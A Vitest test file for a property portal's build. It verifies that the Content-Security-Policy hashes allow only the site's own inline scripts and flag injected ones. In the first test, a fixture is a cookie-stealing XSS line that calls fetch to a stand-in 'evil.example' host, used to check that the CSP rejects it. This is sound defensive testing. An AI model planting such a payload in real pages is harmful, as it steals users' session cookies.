/** The CSP allows the inline scripts the portal and the framework write, not whatever a built page contains. */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import loadDirective from 'astro/runtime/client/load.prebuilt.js';
import { inlineScriptScan, knownInlineScriptHashes, scriptHash, type ScannedPages } from '../../src/build/csp-hashes';
import { walkFolders } from '../../src/build/walk';

import { SEARCH_PENDING_SCRIPT, prePaintScript } from '~/site/inline-scripts';
import { securityHeaders } from '~/platform/security-headers';

/** The scan of `dir` as the build runs it: one walk, then the pages not known otherwise. */
function scanInlineScripts(dir: string, scanned: ScannedPages = {}) {
  const scan = inlineScriptScan(dir, scanned);
  walkFolders(dir, [scan.visit]);
  return scan.finish();
}

const root = fs.mkdtempSync(path.join(os.tmpdir(), 'immoz-csp-'));
afterAll(() => fs.rmSync(root, { recursive: true, force: true }));

function page(rel: string, html: string) {
  fs.mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
  fs.writeFileSync(path.join(root, rel), html);
}

describe('inline script hashes of a build', () => {
  it('hashes the portal’s and the framework’s scripts, not a script that came in with listing text', async () => {
    const injected = 'fetch("https://evil.example/?c="+document.cookie)';
    page(
      'immobilien/7/altbau/index.html',
      `<html><head><script>${prePaintScript('de')}</script><script>${loadDirective}</script>` +
        `<script type="application/ld+json">{"@type":"Product"}</script></head>` +
        `<body><div class="beschreibung"><p>Schöne Wohnung</p><script>${injected}</script></div>` +
        `<script type="module" src="/_astro/app.js"></script></body></html>`,
    );
    page(
      'en/immobilien/index.html',
      `<html><head><script>${SEARCH_PENDING_SCRIPT}</script><script>${prePaintScript('en')}</script></head></html>`,
    );

    const scan = await scanInlineScripts(root);
    expect(scan.pages).toBe(2);
    expect(scan.hashes).toEqual([...knownInlineScriptHashes()].sort());
    for (const own of [prePaintScript('de'), prePaintScript('en'), SEARCH_PENDING_SCRIPT, loadDirective])
      expect(scan.hashes).toContain(scriptHash(own));
    expect(scan.hashes).not.toContain(scriptHash(injected));
    expect(scan.foreign).toEqual([
      { file: path.join('immobilien', '7', 'altbau', 'index.html'), hash: scriptHash(injected) },
    ]);

    const csp = securityHeaders('document', { scriptHashes: scan.hashes })['Content-Security-Policy']!;
    const scriptSrc = csp.split('; ').find((d) => d.startsWith('script-src '))!;
    expect(scriptSrc).toContain(`'${scriptHash(prePaintScript('de'))}'`);
    expect(scriptSrc).not.toContain(scriptHash(injected));
    expect(scriptSrc).not.toContain("'unsafe-inline'");
  });

  it('a script that copies a known one but changes a byte is foreign', async () => {
    const dir = path.join(root, 'copy');
    fs.mkdirSync(dir);
    fs.writeFileSync(path.join(dir, 'index.html'), `<script>${prePaintScript('de')} </script>`);
    const scan = await scanInlineScripts(dir);
    expect(scan.hashes).not.toContain(scriptHash(`${prePaintScript('de')} `));
    expect(scan.foreign).toHaveLength(1);
  });

  it("skips pages that are the same file as the earlier build's (taken over), and reads new ones", async () => {
    const live = path.join(root, 'live');
    const next = path.join(root, 'next');
    fs.mkdirSync(path.join(live, 'a'), { recursive: true });
    fs.mkdirSync(path.join(next, 'a'), { recursive: true });
    fs.writeFileSync(path.join(live, 'a', 'index.html'), '<script>alert(1)</script>');
    fs.linkSync(path.join(live, 'a', 'index.html'), path.join(next, 'a', 'index.html'));
    fs.writeFileSync(path.join(next, 'index.html'), '<script>alert(2)</script>');
    const scan = await scanInlineScripts(next, { scannedIn: live });
    expect(scan.foreign).toEqual([{ file: 'index.html', hash: scriptHash('alert(2)') }]);
    expect((await scanInlineScripts(next)).foreign).toHaveLength(2);
  });

  it('takes the scripts noted while a page was rendered, and skips the pages named as taken over, unread', async () => {
    const dir = path.join(root, 'noted');
    fs.mkdirSync(path.join(dir, 'a'), { recursive: true });
    fs.mkdirSync(path.join(dir, 'b'), { recursive: true });
    // On disk both hold a foreign script; the notes say what the renderer wrote.
    fs.writeFileSync(path.join(dir, 'a', 'index.html'), '<script>alert(3)</script>');
    fs.writeFileSync(path.join(dir, 'b', 'index.html'), '<script>alert(4)</script>');
    fs.writeFileSync(path.join(dir, 'index.html'), '<script>alert(5)</script>');
    const rendered = new Map([['a/index.html', [scriptHash('alert(6)')]]]);
    const scan = await scanInlineScripts(dir, { rendered, takenOver: new Set(['b/index.html']) });
    expect(scan.foreign).toEqual([
      { file: 'a/index.html', hash: scriptHash('alert(6)') },
      { file: 'index.html', hash: scriptHash('alert(5)') },
    ]);
  });

  it('sorts the pages named in a folder the walk left out as it sorts the pages it walks', async () => {
    const dir = path.join(root, 'named');
    for (const [rel, body] of [
      ['index.html', 'alert(7)'],
      ['p/a/index.html', 'alert(8)'],
      ['p/b/index.html', 'alert(9)'],
      ['p/c/index.html', 'alert(10)'],
    ] as const) {
      fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
      fs.writeFileSync(path.join(dir, rel), `<script>${body}</script>`);
    }
    const scan = inlineScriptScan(dir, {
      rendered: new Map([['p/a/index.html', [scriptHash('alert(11)')]]]),
      takenOver: new Set(['p/b/index.html']),
    });
    walkFolders(dir, [scan.visit], new Set(['p']));
    scan.add(['p/a/index.html', 'p/b/index.html', 'p/c/index.html', 'p/c/data.json']);
    const result = await scan.finish();
    expect(result.pages).toBe(4);
    expect(result.foreign).toEqual([
      { file: 'index.html', hash: scriptHash('alert(7)') },
      { file: 'p/a/index.html', hash: scriptHash('alert(11)') },
      { file: 'p/c/index.html', hash: scriptHash('alert(10)') },
    ]);
  });
});

describe('inline scripts in the templates', () => {
  /** Every .astro file of the portal. */
  function templates(dir = path.resolve(__dirname, '../../src')): string[] {
    return fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
      const full = path.join(dir, e.name);
      return e.isDirectory() ? templates(full) : e.name.endsWith('.astro') ? [full] : [];
    });
  }

  it('come only from src/site/inline-scripts.ts, so the build knows their hashes', () => {
    const offenders: string[] = [];
    for (const file of templates()) {
      const source = fs.readFileSync(file, 'utf8');
      for (const m of source.matchAll(/<script\b([^>]*)>/g)) {
        const attrs = m[1] ?? '';
        // Data blocks do not run; scripts the framework bundles are files of their own ('self').
        if (/type="application\/(ld\+)?json"/.test(attrs)) continue;
        if (!/\bis:inline\b|\bdefine:vars\b/.test(attrs)) continue;
        // The script's text is a value the template imports from src/site/inline-scripts.ts.
        const name = /set:html=\{(\w+)(?:\(\w+\))?\}/.exec(attrs)?.[1];
        const imported = new RegExp(`import \\{[^}]*\\b${name}\\b[^}]*\\} from '~/site/inline-scripts'`);
        const fromModule = name !== undefined && imported.test(source);
        if (!fromModule || /define:vars/.test(attrs))
          offenders.push(`${path.relative(process.cwd(), file)}: <script${attrs}>`);
      }
    }
    expect(offenders).toEqual([]);
  });
});
